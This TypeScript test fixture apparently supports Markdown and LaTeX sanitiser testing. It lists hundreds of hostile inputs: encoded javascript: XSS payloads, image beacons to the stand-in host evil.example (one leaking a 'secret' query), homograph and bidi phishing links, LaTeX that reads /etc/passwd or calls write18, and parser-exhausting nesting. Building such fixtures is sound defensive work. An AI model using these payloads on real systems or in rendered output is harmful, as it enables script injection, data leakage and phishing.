// Texts that try to run, load, navigate, submit or mislead when they are shown. What a model writes, what a title, a hit
// of a search or an exported page holds may be any of them.

import { hostileMarkup } from './hostile-markup.ts';

/** One hostile text. `name` is unique and says what it tries. */
export type HostileText = { readonly name: string; readonly text: string };

/** Every address in the texts leads here; it does not exist. */
export const hostileHost = 'evil.example';

const there = `https://${hostileHost}`;

/** Addresses that a link must not have, plainly and in disguise. */
const addresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  '&Tab;javascript:alert(1)',
  'java&NewLine;script:alert(1)',
  '\u0001javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'javascript\\:alert(1)',
  'javascript%3Aalert(1)',
  'javascript://evil.example/%0Aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,x',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/x',
  'file:///etc/passwd',
  'about:blank',
  'view-source:https://evil.example',
  'chrome://settings',
  'jar:https://evil.example!/x',
  'ms-msdt:/id PCWDiagnostic',
  'sotto://open?x=1',
  '//evil.example/x',
  '/\\evil.example/x',
  'ftp://evil.example/x',
  'ws://evil.example/x',
];

const linkForms: readonly (readonly [name: string, form: (address: string) => string])[] = [
  ['link', (address) => `[x](${address})`],
  ['link in brackets', (address) => `[x](<${address}> "t")`],
  ['reference', (address) => `[x][r]\n\n[r]: <${address}>`],
  ['automatic link', (address) => `<${address}>`],
  ['image', (address) => `![x](<${address}>)`],
];

/** Images and links of the net in every form that Markdown has, in every place that it has. */
const remote: readonly string[] = [
  `![x](${there}/pixel.png)`,
  `![x](<${there}/pixel.png> "t")`,
  `![x](${there}/?q=secret 't')`,
  `![x][1]\n\n[1]: ${there}/pixel.png`,
  `![x][]\n\n[x]: ${there}/pixel.png`,
  `![x]\n\n[x]: ${there}/pixel.png "t"`,
  `[1]: ${there}/first.png\n\n![x][1]`,
  `![](${there}/a.png)![](${there}/b.png)`,
  `![x](//${hostileHost}/pixel.png)`,
  `![x](HTTPS://${hostileHost}/pixel.png)`,
  `![x](${there}/a.png =100x100)`,
  `![x](${there}/a b.png)`,
  `![x\ny](${there}/a.png)`,
  `![**x**](${there}/a.png)`,
  `![![x](${there}/inner.png)](${there}/outer.png)`,
  `[![x](${there}/a.png)](${there})`,
  `**![x](${there}/a.png)**`,
  `# ![x](${there}/a.png)`,
  `- ![x](${there}/a.png)`,
  `> ![x](${there}/a.png)`,
  `| ![x](${there}/a.png) | b |\n|---|---|\n| ![y](${there}/b.png) | c |`,
  `1. a\n\n   ![x](${there}/a.png)`,
  `- [ ] ![x](${there}/a.png)`,
  `![x](${there}/a.svg#javascript:alert(1))`,
  `![x](${there}/a.png){onerror=alert(1)}`,
  `![x](${there}/a.png "\\"onerror=alert(1) x=\\"")`,
  `![x" onerror="alert(1)](${there}/a.png)`,
  `<${there}/automatic>`,
  `${there}/bare`,
  `www.${hostileHost}/bare`,
  `someone@${hostileHost}`,
  `<mailto:someone@${hostileHost}?subject=x&body=y>`,
  `[x](${there} "onmouseover=alert(1)")`,
  `[x](${there}" onmouseover="alert(1))`,
  `[a](${there}/<script>alert(1)</script>)`,
  `[<img src=x onerror=alert(1)>](${there})`,
  `[x](${there})[y](javascript:alert(1))`,
  `[x]: javascript:alert(1)\n\n[x]`,
  `[__proto__]: ${there}\n\n[__proto__] [constructor] [toString]`,
  `[^1]: ![x](${there}/a.png)\n\ntext[^1]`,
  `[[x]](${there}) [[wiki|${there}]]`,
  `![[${there}/a.png]]`,
  `~~![x](${there}/a.png)~~`,
  `:::html\n<img src="${there}/a.png">\n:::`,
  `{% include "${there}" %}`,
  `$![x](${there}/a.png)$`,
];

/** Formulas that want more than to be printed. */
const formulas: readonly string[] = [
  String.raw`\href{javascript:alert(1)}{x}`,
  String.raw`\href{https://evil.example}{x}`,
  String.raw`\url{javascript:alert(1)}`,
  String.raw`\includegraphics{https://evil.example/a.png}`,
  String.raw`\includegraphics[width=1em]{//evil.example/a.png}`,
  String.raw`\htmlClass{fixed inset-0}{x}`,
  String.raw`\htmlId{root}{x}`,
  String.raw`\htmlStyle{position:fixed;background:url(https://evil.example)}{x}`,
  String.raw`\htmlData{onclick=alert(1)}{x}`,
  String.raw`\html@mathml{<img src=x onerror=alert(1)>}{x}`,
  String.raw`\text{<img src=x onerror=alert(1)>}`,
  String.raw`\text{</math><script>alert(1)</script>}`,
  String.raw`\unicode{<img src=x onerror=alert(1)>}`,
  String.raw`\mathchoice{\href{javascript:alert(1)}{x}}{}{}{}`,
  String.raw`\color{url(https://evil.example)}x`,
  String.raw`\textcolor{red;background:url(https://evil.example)}{x}`,
  String.raw`\colorbox{expression(alert(1))}{x}`,
  String.raw`\fcolorbox{red}{blue}{x}`,
  String.raw`\def\a{\a\a}\a`,
  String.raw`\gdef\href{x}\href`,
  String.raw`\newcommand{\a}{\href{javascript:alert(1)}{x}}\a`,
  String.raw`\let\x\href\x{javascript:alert(1)}{x}`,
  String.raw`\global\let\x=\includegraphics\x{https://evil.example}`,
  String.raw`\rule{9999em}{9999em}`,
  String.raw`\raisebox{-9999em}{\rule{99em}{99em}}`,
  String.raw`\hspace{-9999em}\rule{99em}{99em}`,
  String.raw`\kern-9999em x`,
  String.raw`\Huge\Huge\Huge x`,
  String.raw`\begin{array}{c}\hline x\\\hline\end{array}\cr\href{javascript:alert(1)}{y}`,
  String.raw`\tag{<img src=x onerror=alert(1)>} x`,
  String.raw`\require{html}\href{javascript:alert(1)}{x}`,
  String.raw`\input{/etc/passwd}\write18{id}`,
  String.raw`\char"3C script\char"3E`,
  String.raw`\sqrt{\sqrt{\sqrt{\overbrace{x}^{\href{javascript:alert(1)}{y}}}}}`,
  String.raw`\style{background:url(https://evil.example)}{x} \class{fixed}{x} \cssId{root}{x}`,
];

const formulaForms: readonly (readonly [name: string, form: (formula: string) => string])[] = [
  ['inline', (formula) => `$${formula}$`],
  ['display', (formula) => `$$\n${formula}\n$$`],
  ['bracketed', (formula) => `\\[${formula}\\]`],
];

/** Languages of code, and code, that want to be more than code. */
const code: readonly string[] = [
  '```html\n<script>alert(1)</script>\n```',
  '```svg\n<svg onload=alert(1)>\n```',
  '```js"><img src=x onerror=alert(1)>\nalert(1)\n```',
  '```__proto__\nx\n```',
  '```constructor\nx\n```',
  '```toString\nx\n```',
  '```javascript onload=alert(1)\nalert(1)\n```',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '```math\n\\href{javascript:alert(1)}{x}\n```',
  '```css\n@import url(https://evil.example/a.css);\n```',
  '```xml\n<!ENTITY x SYSTEM "https://evil.example">\n```',
  '```../../etc/passwd\nx\n```',
  '```markdown\n![x](https://evil.example/a.png)\n```',
  '```php-template\n<?php ?><img src=x onerror=alert(1)>\n```',
  '~~~html\n<iframe src="https://evil.example">\n~~~',
  '    <script>alert(1)</script>',
  '`<img src=x onerror=alert(1)>`',
  '``<script>alert(1)</script>``',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```html\n<script>alert(1)</script>',
  '```json\n{"x": "</script><script>alert(1)</script>"}\n```',
  '```diff\n+<img src=x onerror=alert(1)>\n-<img src=x>\n```',
];

/** What looks like something that it is not. */
const disguises: readonly string[] = [
  `[https://bank.example](${there})`,
  `[bank.example](https://bank.example@${hostileHost}/)`,
  '[bank.example](https://bank.example%2f@evil.example/)',
  `[x](https://${hostileHost}\u202e/gpj.exe)`,
  '\u202egpj.exe\u202c [x](https://evil.example/\u202e)',
  '[\u2066bank.example\u2069](https://evil.example)',
  '[b\u200bank.example](https://evil.example)',
  '[x](https://ev\u200bil.example)',
  '[x](https://еvil.example)',
  '[x](https://xn--vil-6kd.example)',
  '[x](https://evil.example。com)',
  '[x](https://①②③.example)',
  '[x](https:evil.example)',
  '[x](https:\\\\evil.example)',
  '[x](https:///evil.example)',
  '[x](http://0x7f000001/)',
  '[x](http://[::1]:80/)',
  '[x](mailto:a@evil.example?bcc=b@evil.example%0AX:y)',
  '\u0000[x](java\u0000script:alert(1))',
  '\ud800[x](https://evil.example/\ud800)',
  `${'\u0301'.repeat(200)}x`,
  `${'\u202e'.repeat(50)}x`,
  'x\u2028<script>alert(1)</script>\u2029y',
];

/** Structures that take a parser, a stack or a layout to its end. */
const exhausting: readonly string[] = [
  '>'.repeat(120),
  '- '.repeat(60),
  '1. '.repeat(50),
  '['.repeat(90),
  '![['.repeat(40),
  '*_'.repeat(60),
  '$'.repeat(90),
  '`~'.repeat(50),
  '<a '.repeat(40),
  '|'.repeat(80),
  '\\['.repeat(50),
  `${'['.repeat(40)}x${'](https://evil.example)'.repeat(6)}`,
  `${'**'.repeat(40)}<script>alert(1)</script>`,
  '&#x'.repeat(30),
  `$${'{'.repeat(60)}`,
];

/** Places in a text where a piece of markup may stand. */
const places: readonly (readonly [name: string, form: (piece: string) => string])[] = [
  ['alone', (piece) => piece],
  ['in a sentence', (piece) => `So **it ${piece} is**.`],
  ['in a table', (piece) => `| a | b |\n|---|---|\n| ${piece.replaceAll('\n', ' ')} | c |`],
];

const all = (kind: string, texts: readonly string[]): readonly HostileText[] =>
  texts.map((text, index) => ({ name: `${kind} ${index + 1}`, text }));

/** All of them, in a fixed order; more than 500. */
export const hostileMarkdown: readonly HostileText[] = [
  ...places.flatMap(([place, form]) => all(`markup ${place}`, hostileMarkup.map(form))),
  ...linkForms.flatMap(([name, form]) => all(name, addresses.map(form))),
  ...all('remote', remote),
  ...formulaForms.flatMap(([name, form]) => all(`formula ${name}`, formulas.map(form))),
  ...all('code', code),
  ...all('disguise', disguises),
  ...all('exhausting', exhausting),
];
